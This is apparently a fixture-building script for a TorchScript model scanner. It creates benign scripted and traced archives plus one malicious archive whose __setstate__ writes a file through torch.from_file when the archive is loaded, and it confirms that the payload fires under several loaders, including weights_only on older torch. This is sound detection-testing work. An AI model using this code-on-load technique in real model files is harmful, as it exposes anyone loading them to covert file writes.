#!/usr/bin/python3
"""Real TorchScript archives for the TorchScript code check, and one
malicious twin proved live.

Run with Debian's python3-torch (1.13): /usr/bin/python3 make.py
Benign: torch.jit.script / torch.jit.trace of ordinary torch.nn modules,
tiny dimensions so each archive stays a few KiB, saved with torch.jit.save.
Malicious: a scripted class whose __setstate__ writes a file through
torch.from_file(shared=True); torch.jit.load, and torch.load (even with
weights_only=True on torch < 2.6, which hands archives with constants.pkl
to torch.jit.load), run it. The proof writes /tmp/modelvet_ts_proof and
checks it appeared.
"""
import os
import torch
import torch.nn as nn
from typing import Tuple

torch.manual_seed(0)
out = os.path.dirname(os.path.abspath(__file__))


def save(name, m):
    torch.jit.save(m, os.path.join(out, name))


x4 = torch.randn(2, 4)
seq = nn.Sequential(nn.Linear(4, 3), nn.ReLU(), nn.Linear(3, 2)).eval()
save("script_sequential.pt", torch.jit.script(seq))
save("trace_sequential.pt", torch.jit.trace(seq, x4))
lstm = nn.LSTM(4, 3, num_layers=1, batch_first=True).eval()
save("script_lstm.pt", torch.jit.script(lstm))
save("trace_lstm.pt", torch.jit.trace(lstm, torch.randn(1, 2, 4)))
gru = nn.GRU(4, 3).eval()
save("script_gru.pt", torch.jit.script(gru))
enc = nn.TransformerEncoderLayer(d_model=4, nhead=2, dim_feedforward=8).eval()
save("script_transformer_encoder_layer.pt", torch.jit.script(enc))
mha = nn.MultiheadAttention(4, 2).eval()
save("script_multihead_attention.pt", torch.jit.script(mha))
conv = nn.Sequential(nn.Conv2d(1, 2, 3), nn.BatchNorm2d(2), nn.ReLU(), nn.MaxPool2d(2),
                     nn.Flatten(), nn.Linear(8, 2)).eval()
save("script_convnet.pt", torch.jit.script(conv))
save("trace_convnet.pt", torch.jit.trace(conv, torch.randn(1, 1, 6, 6)))
emb = nn.Embedding(5, 3).eval()
save("script_embedding.pt", torch.jit.script(emb))



class QW(nn.Module):
    def __init__(self):
        super().__init__()
        self.l = nn.Linear(4, 3)
        self.r = nn.LSTM(3, 3)

    def forward(self, x):
        return self.r(self.l(x))[0]


# Dynamic quantization: __getstate__/__setstate__ with ops.quantized and
# torch.classes.quantized / torch.classes.rnn packed parameters.
q = torch.ao.quantization.quantize_dynamic(QW().eval(), {nn.Linear, nn.LSTM}, dtype=torch.qint8)
save("script_quantized_dynamic.pt", torch.jit.script(q))


class WithState(nn.Module):
    """A benign module with __getstate__/__setstate__ that only touch
    tensors: the twin of the malicious one below."""

    def __init__(self):
        super().__init__()
        self.w = torch.ones(2)

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, bool]:
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]) -> None:
        # torch.from_file(...) in a comment must not count
        self.w = state[0] * 2
        self.training = state[1]

    def forward(self, x):
        return x + self.w


save("script_setstate_benign.pt", torch.jit.script(WithState()))


PROOF = "/tmp/modelvet_ts_proof"


class Evil(nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.ones(2)

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, bool]:
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]) -> None:
        self.w = state[0]
        self.training = state[1]
        self.touch()

    @torch.jit.export
    def touch(self) -> None:
        # shared=True maps the file MAP_SHARED, creating it: writes reach disk.
        # The result is used so the compiler keeps the call.
        t = torch.from_file("/tmp/modelvet_ts_proof", True, 8, dtype=torch.uint8)
        t.fill_(65)
        self.w = self.w + t[0:2].float() * 0

    def forward(self, x):
        return x + self.w


path = os.path.join(out, "evil_setstate_from_file.pt")
save("evil_setstate_from_file.pt", torch.jit.script(Evil()))
for how, load in [("torch.jit.load", lambda: torch.jit.load(path)),
                  ("torch.load(weights_only=True)", lambda: torch.load(path, weights_only=True))]:
    if os.path.exists(PROOF):
        os.remove(PROOF)
    load()
    ok = os.path.exists(PROOF) and open(PROOF, "rb").read() == b"A" * 8
    print(f"{how} on torch {torch.__version__}: file written = {ok}")
    assert ok
# Mobile (lite interpreter) archives run bytecode.pkl, not code/: the same
# __setstate__ writes the file under _load_for_lite_interpreter.
from torch.jit.mobile import _load_for_lite_interpreter
torch.jit.load(path)._save_for_lite_interpreter(os.path.join(out, "evil_setstate_from_file.ptl"))
torch.jit.script(lstm)._save_for_lite_interpreter(os.path.join(out, "script_lstm.ptl"))
if os.path.exists(PROOF):
    os.remove(PROOF)
_load_for_lite_interpreter(os.path.join(out, "evil_setstate_from_file.ptl"))
ok = os.path.exists(PROOF)
print(f"_load_for_lite_interpreter on torch {torch.__version__}: file written = {ok}")
assert ok
os.remove(PROOF)
for f in sorted(os.listdir(out)):
    if f.endswith(".pt") or f.endswith(".ptl"):
        print(f, os.path.getsize(os.path.join(out, f)))
